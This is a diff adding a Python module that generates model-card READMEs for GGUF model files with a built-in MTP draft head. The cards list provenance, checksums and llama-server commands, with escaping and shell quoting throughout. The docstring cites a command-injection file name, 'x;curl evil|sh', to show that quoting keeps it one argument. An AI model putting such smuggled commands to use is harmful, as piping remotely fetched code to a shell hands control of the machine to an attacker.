@@ -1,0 +1,315 @@
+"""The model card (``README.md``) published with a composite: a pure function of what is published.
+
+It says what the files are (the target quant with its MTP head spliced in as its final block), where
+each part came from (target repo, revision and file names; the head's source), which gguf-mtp wrote
+them, each file's size and sha256, the llama.cpp release that runs the NextN block, and the exact
+``llama-server`` command. The YAML front matter is written by ``huggingface_hub.ModelCardData``.
+
+Every interpolated string (the model's ``general.name``, file names, provenance) is escaped: it can add
+no heading, table row, link or HTML of its own (:func:`~gguf_mtp.formatting.markdown_code`), and every
+argument of a shell command is quoted with :func:`shlex.quote` (a file called ``x;curl evil|sh`` stays one
+argument). Links go only to Hub repos whose ids pass the Hub's own validation.
+"""
+
+from __future__ import annotations
+
+import shlex
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+from typing import Any
+
+from gguf import Keys
+
+from gguf_mtp.constants import BLOCK_TENSOR
+from gguf_mtp.files.digests import FileDigest
+from gguf_mtp.formatting import markdown_code, markdown_text, printable
+from gguf_mtp.model.shards import ShardSet
+
+__all__ = [
+    "LLAMA_CPP_MIN_RELEASE",
+    "ModelFacts",
+    "Provenance",
+    "draft_command",
+    "llama_cpp_requirement",
+    "render_model_card",
+    "serve_command",
+]
+
+#: The first llama.cpp release that loads and runs the NextN block of each architecture. Nemotron-H MoE:
+#: before b11025 the block's ``ffn_latent_down/up`` were unknown ("wrong number of tensors; expected 781, got 779").
+LLAMA_CPP_MIN_RELEASE = {"nemotron_h_moe": "b11025"}
+
+#: How many draft tokens the suggested command lets the MTP head propose per step.
+DRAFT_N_MAX = 3
+
+_HF_URL = "https://huggingface.co/"
+
+
+@dataclass(frozen=True)
+class Provenance:
+    """Where a composite came from, as far as the publisher knows it (every field optional)."""
+
+    target_repo: str | None = None
+    target_revision: str | None = None  # ideally the commit the files were downloaded at
+    target_files: tuple[str, ...] = ()  # paths inside the target repo
+    head_source: str | None = None  # Hub repo id or local checkpoint folder of the MTP head
+    head_revision: str | None = None
+    base_model: str | None = None  # the original model's Hub repo (front matter ``base_model``)
+
+    def to_dict(self) -> dict[str, Any]:
+        return {
+            "target_repo": self.target_repo,
+            "target_revision": self.target_revision,
+            "target_files": list(self.target_files),
+            "head_source": self.head_source,
+            "head_revision": self.head_revision,
+            "base_model": self.base_model,
+        }
+
+
+@dataclass(frozen=True)
+class ModelFacts:
+    """What the card says about the model itself, read from its GGUF headers."""
+
+    architecture: str
+    name: str | None
+    trunk_blocks: int
+    nextn_blocks: int
+    tensor_count: int
+    nextn_tensors: int
+    nextn_types: tuple[str, ...] = field(default=())
+    base_model: str | None = None  # a huggingface.co repo the GGUF names as its base model
+    license: str | None = None
+
+    @property
+    def first_nextn_block(self) -> int:
+        return self.trunk_blocks
+
+    @classmethod
+    def from_model(cls, model: ShardSet) -> ModelFacts:
+        """Read the facts from a model's headers (shard 1 holds the model KVs)."""
+        trunk = model.trunk_block_count
+        nextn_types: set[str] = set()
+        nextn_tensors = 0
+        for _, tensor in model.iter_tensors():
+            match = BLOCK_TENSOR.match(tensor.name)
+            if match and int(match["block"]) >= trunk:
+                nextn_tensors += 1
+                nextn_types.add(tensor.type_name)
+        repo_url = model.get(Keys.General.BASE_MODEL_REPO_URL.format(id=0))
+        base = None
+        if isinstance(repo_url, str) and repo_url.startswith(_HF_URL):
+            base = repo_url[len(_HF_URL) :].strip("/") or None
+        name = model.get(Keys.General.NAME)
+        license_ = model.get(Keys.General.LICENSE)
+        return cls(
+            architecture=model.arch,
+            name=name if isinstance(name, str) and name else None,
+            trunk_blocks=trunk,
+            nextn_blocks=model.nextn_predict_layers,
+            tensor_count=model.tensor_count,
+            nextn_tensors=nextn_tensors,
+            nextn_types=tuple(sorted(nextn_types)),
+            base_model=base,
+            license=license_ if isinstance(license_, str) and license_ else None,
+        )
+
+
+def llama_cpp_requirement(architecture: str) -> str:
+    """The llama.cpp release a composite of ``architecture`` needs, in words."""
+    release = LLAMA_CPP_MIN_RELEASE.get(architecture)
+    if release:
+        return f"llama.cpp release {release} or later"
+    return f"a llama.cpp release that runs the {architecture} NextN block with `--spec-type draft-mtp`"
+
+
+def serve_command(first_file: str) -> str:
+    """The ``llama-server`` command that serves the composite with its own MTP head as the drafter."""
+    return f"llama-server -m {shell_word(first_file)} --spec-type draft-mtp --spec-draft-n-max {DRAFT_N_MAX}"
+
+
+def draft_command(target_file: str, draft_file: str) -> str:
+    """The ``llama-server`` command that serves ``target_file`` with the MTP-only ``draft_file`` as its drafter."""
+    return (
+        f"llama-server -m {shell_word(target_file)} --spec-draft-model {shell_word(draft_file)} "
+        f"--spec-type draft-mtp --spec-draft-n-max {DRAFT_N_MAX}"
+    )
+
+
+#: What the card of a standalone draft calls the target's first file when no ``--target-file`` was given.
+TARGET_PLACEHOLDER = "TARGET.gguf"
+
+
+def shell_word(text: str) -> str:
+    """``text`` as one shell argument: printable (no newline can end the command) and quoted."""
+    return shlex.quote(printable(text))
+
+
+def _front_matter(facts: ModelFacts, provenance: Provenance) -> str:
+    from .client import is_repo_id
+
+    # Only ids the Hub accepts: the value comes from a file's general.base_model.0.repo_url or a flag.
+    candidates = [r for r in (provenance.base_model, facts.base_model) if r and is_repo_id(r)]
+    base_model = candidates[0] if candidates else None
+    relation = "quantized" if base_model else None
+    if base_model is None and provenance.target_repo and is_repo_id(provenance.target_repo):
+        base_model = provenance.target_repo  # a GGUF repo: let the Hub work out the relation
+    from huggingface_hub import ModelCardData  # imported here: the Hub stack is not needed for anything else
+
+    data = ModelCardData(
+        base_model=base_model,
+        base_model_relation=relation,
+        library_name="gguf",
+        license=printable(facts.license) if facts.license else None,
+        pipeline_tag="text-generation",
+        tags=["gguf", "mtp", "nextn", "speculative-decoding", "llama.cpp", "gguf-mtp", printable(facts.architecture)],
+    )
+    return f"---\n{data.to_yaml()}\n---\n"
+
+
+def _repo_link(repo: str, revision: str | None = None) -> str:
+    """A link to a Hub repo (only for an id the Hub's rules accept; anything else is shown as text)."""
+    from .client import is_repo_id
+
+    link = f"[{repo}]({_HF_URL}{repo})" if is_repo_id(repo) else markdown_code(repo)
+    return f"{link} at {markdown_code(revision)}" if revision else link
+
+
+def _human(n: int) -> str:
+    value = float(n)
+    for unit in ("B", "KB", "MB", "GB"):
+        if value < 1000:
+            return f"{n} B" if unit == "B" else f"{value:.1f} {unit}"
+        value /= 1000
+    return f"{value:.1f} TB"
+
+
+def render_model_card(
+    *,
+    repo: str,
+    files: Sequence[FileDigest],
+    facts: ModelFacts,
+    provenance: Provenance = Provenance(),
+    version: str,
+    standalone: bool = False,
+) -> str:
+    """The ``README.md`` for a published composite (or, with ``standalone``, an MTP-only draft).
+
+    Args:
+        repo: the Hub repo it is published to (``OWNER/NAME``).
+        files: the published GGUF files in shard order, with sizes and sha256.
+        facts: what the GGUF headers say (:meth:`ModelFacts.from_model`).
+        provenance: where the target and the head came from.
+        version: the gguf-mtp version that wrote the files.
+        standalone: the files are an MTP-only draft: the card says it is not a model by itself and shows
+            the ``llama-server -m TARGET --spec-draft-model DRAFT`` command.
+
+    Returns:
+        The card's text: YAML front matter, then Markdown.
+    """
+    first = files[0].name
+    title = repo.split("/", 1)[-1]
+    what = markdown_code(facts.name) if facts.name else f"A {markdown_code(facts.architecture)} model"
+    block = facts.first_nextn_block
+    blocks = f"`blk.{block}`" if facts.nextn_blocks == 1 else f"`blk.{block}`..`blk.{block + facts.nextn_blocks - 1}`"
+    types = ", ".join(markdown_text(t) for t in facts.nextn_types) or "-"
+    total = sum(f.size for f in files)
+    changed_keys = ["`block_count`", "`nextn_predict_layers`", "the per-layer arrays"]
+    if len(files) > 1:
+        changed_keys.append("`split.tensors.count`")
+    changed = ", ".join(changed_keys)
+    if standalone:
+        intro = (
+            f"{what} as an MTP-only draft in GGUF: its multi-token-prediction (MTP / NextN) head, block {blocks}, "
+            f"without the {facts.trunk_blocks} trunk blocks. It is not a model by itself: llama.cpp loads it beside "
+            "its target model as the drafter (`--spec-draft-model`)."
+        )
+    else:
+        intro = (
+            f"{what} in GGUF with its multi-token-prediction (MTP / NextN) head built in: the head is block {blocks}, "
+        f"after the {facts.trunk_blocks} trunk blocks, so llama.cpp drafts tokens with it "
+            "(`--spec-type draft-mtp`) without a separate draft model." + (
+                f" The trunk tensors are byte for byte those of the target quant (nothing was re-quantized); only "
+                f"metadata changed ({changed})." if provenance.target_repo else ""
+            )
+        )
+    lines = [
+        _front_matter(facts, provenance),
+        f"# {markdown_text(title)}",
+        "",
+        intro,
+        "",
+        "## Where it comes from",
+        "",
+        "| part | source |",
+        "|---|---|",
+    ]
+    if provenance.target_repo:
+        lines.append(f"| target quant | {_repo_link(provenance.target_repo, provenance.target_revision)} |")
+    else:
+        lines.append("| target quant | not recorded |")
+    if provenance.target_files:
+        lines.append("| target files | " + "<br>".join(markdown_code(name) for name in provenance.target_files) + " |")
+    if provenance.head_source:
+        head = provenance.head_source
+        looks_like_repo = head.count("/") == 1 and not head.startswith((".", "/", "~"))
+        shown = _repo_link(head, provenance.head_revision) if looks_like_repo else markdown_code(head)
+        lines.append(f"| MTP head | {shown} |")
+    else:
+        lines.append("| MTP head | not recorded |")
+    lines += [
+        f"| NextN block | {blocks}: {facts.nextn_tensors} tensors ({types}) |",
+        f"| written by | gguf-mtp {markdown_text(version)} (the `gguf-mtp` command of the Python package `gguf-mtp`) |",
+        "",
+        "## Files",
+        "",
+        f"{len(files)} file(s), {facts.tensor_count} tensors, {_human(total)} in all.",
+        "",
+        "| file | size | sha256 |",
+        "|---|---:|---|",
+    ]
+    lines += [f"| {markdown_code(f.name)} | {f.size:,} bytes ({_human(f.size)}) | `{f.sha256}` |" for f in files]
+    lines += _run_section_standalone(repo, title, first, facts, provenance) if standalone else [
+        "",
+        "## Run it",
+        "",
+        f"Needs {llama_cpp_requirement(facts.architecture)}. Download every file into one folder and point "
+        "llama.cpp at the first one; it finds the other shards itself:",
+        "",
+        "```sh",
+        f"hf download {shell_word(repo)} --local-dir {shell_word(title)}",
+        f"cd {shell_word(title)}",
+        serve_command(first),
+        "```",
+    ]
+    lines += [
+        "",
+        "## Check it",
+        "",
+        "```sh",
+        "sha256sum " + " ".join(shell_word(f.name) for f in files),
+        f"gguf-mtp {'inspect' if standalone else 'verify'} {shell_word(first)}",
+        "```",
+        "",
+    ]
+    return "\n".join(lines)
+
+
+def _run_section_standalone(
+    repo: str, title: str, first: str, facts: ModelFacts, provenance: Provenance
+) -> list[str]:
+    """"Run it" for an MTP-only draft: the target with ``-m``, this file with ``--spec-draft-model``."""
+    target = provenance.target_files[0] if provenance.target_files else TARGET_PLACEHOLDER
+    where = f" of {_repo_link(provenance.target_repo)}" if provenance.target_repo else ""
+    return [
+        "",
+        "## Run it",
+        "",
+        f"Needs {llama_cpp_requirement(facts.architecture)}. Download this draft, and the target model{where} "
+        f"({markdown_code(target)} is its first file), then give llama.cpp both:",
+        "",
+        "```sh",
+        f"hf download {shell_word(repo)} --local-dir {shell_word(title)}",
+        draft_command(target, f"{title}/{first}"),
+        "```",
+    ]
